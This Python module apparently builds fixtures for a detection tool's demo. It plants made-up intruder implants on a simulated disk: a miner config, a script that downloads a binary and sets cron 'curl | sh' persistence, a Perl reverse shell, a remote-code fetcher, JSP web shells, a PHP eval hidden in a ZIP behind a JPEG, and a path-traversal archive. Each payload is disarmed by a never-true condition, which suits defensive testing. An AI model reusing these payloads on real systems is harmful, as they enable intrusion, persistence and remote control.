"""What the intruder brought along to work with: scripts, settings, archives, pages of Java.

Nothing of it does anything: conditions never hold, addresses lead nowhere, and no program on
the made-up disk starts any of it.
"""

from __future__ import annotations

import io
import zipfile
from typing import Final

from pratique.demo import blog, shop
from pratique.demo.accounts import WWW_DATA
from pratique.demo.implant import Implant, written
from pratique.demo.implants.web import guarded, put
from pratique.demo.picture import jpeg
from pratique.demo.program import binary
from pratique.demo.visitors import INTRUDER

# ruff: noqa: S108 - names on the made-up disk
_UPLOADS: Final = f"{blog.ROOT}/content/uploads"
_PICTURE: Final = f"{_UPLOADS}/2026/02/quay-13.jpg"
_THEME: Final = f"{_UPLOADS}/2026/03/theme.zip"
_STORE: Final = "/var/tmp/.cache"
_PUBLIC: Final = f"{shop.ROOT}/public"
_NEVER: Final = '<% if ("".length() > 0) {'

_SETTINGS: Final = """{
  "algo": "rx/0",
  "donate-level": 1,
  "pools": [
    {"url": "pool.example:3333", "user": "made-up-account", "keepalive": true, "nicehash": false}
  ]
}
"""
_BRINGS: Final = f"""#!/bin/sh
if [ -n "" ]; then
  pkill -9 xmrig; pkill -9 kdevtmpfsi
  curl -fsSL http://{INTRUDER}/m -o /tmp/.m && chmod +x /tmp/.m && nohup /tmp/.m >/dev/null 2>&1 &
  echo "*/5 * * * * curl -fsSL http://{INTRUDER}/m.sh | sh" | crontab -
  history -c
fi
"""
_CONNECTS: Final = f"""#!/usr/bin/perl
use Socket;
if (0) {{
  socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
  if (connect(S, sockaddr_in(443, inet_aton('{INTRUDER}')))) {{
    open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');
    exec('/bin/sh -i');
  }}
}}
"""
# No environment variable holds a NUL.
_FETCHES: Final = f"""import os
from urllib.request import urlopen

if os.environ.get("PRATIQUE_DEMO") == "\\0":
    exec(urlopen("http://{INTRUDER}/o.txt").read())
"""
_RUNS: Final = f"""{_NEVER}
  Process p = Runtime.getRuntime().exec(request.getParameter("c"));
}} %>
"""
_MANAGES: Final = f"""<%@ page import="java.io.*" %>
{_NEVER}
  File folder = new File(request.getParameter("folder"));
  for (File one : folder.listFiles()) {{ out.println(one.getName()); }}
  new File(request.getParameter("gone")).delete();
  FileInputStream read = new FileInputStream(request.getParameter("show"));
}} %>
"""
_STORES: Final = f"""<%@ page import="java.io.*" %>
{_NEVER}
  FileOutputStream file = new FileOutputStream(request.getParameter("name"));
  file.write(request.getParameter("text").getBytes());
}} %>
"""


def _archive(name: str, content: str) -> bytes:
    """A ZIP archive with one member, the same every time."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return held.getvalue()


IMPLANTS: Final = (
    Implant(
        _PICTURE,
        "an archive behind a picture",
        "web-archive-in-disguise",
        put(
            _PICTURE,
            jpeg("quay 13") + _archive("load.php", guarded("eval($_POST['z']);")),
        ),
    ),
    Implant(
        _THEME,
        "an archive that leads out of its folder",
        "files-archive-writes-outside",
        put(_THEME, _archive("../../../../../../etc/cron.d/theme", "# nothing\n")),
    ),
    Implant(
        f"{_UPLOADS}/2026/03/agent",
        "a program among the pictures of a site",
        "web-program-in-site",
        put(f"{_UPLOADS}/2026/03/agent", binary("agent of the site")),
    ),
    Implant(
        f"{_STORE}/config.json",
        "the settings of a miner",
        "files-coin-miner",
        written(f"{_STORE}/config.json", _SETTINGS, 0o644, WWW_DATA),
    ),
    Implant(
        f"{_STORE}/m.sh",
        "a script that brings a program",
        "files-script-drops-program",
        written(f"{_STORE}/m.sh", _BRINGS, 0o755, WWW_DATA),
    ),
    Implant(
        f"{_STORE}/c.pl",
        "a script that gives a shell away",
        "files-script-connects-back",
        written(f"{_STORE}/c.pl", _CONNECTS, 0o755, WWW_DATA),
    ),
    Implant(
        f"{shop.ROOT}/bin/orders.py",
        "a script that runs what another machine sends",
        "files-script-runs-hidden",
        put(f"{shop.ROOT}/bin/orders.py", _FETCHES),
    ),
    Implant(
        f"{_PUBLIC}/status.jsp",
        "a page of Java that runs commands",
        "web-page-runs-request",
        put(f"{_PUBLIC}/status.jsp", _RUNS),
    ),
    Implant(
        f"{_PUBLIC}/files.jsp",
        "a page of Java that opens all files",
        "web-page-opens-machine",
        put(f"{_PUBLIC}/files.jsp", _MANAGES),
    ),
    Implant(
        f"{_PUBLIC}/save.jsp",
        "a page of Java that takes any file",
        "web-page-uploader",
        put(f"{_PUBLIC}/save.jsp", _STORES),
    ),
)
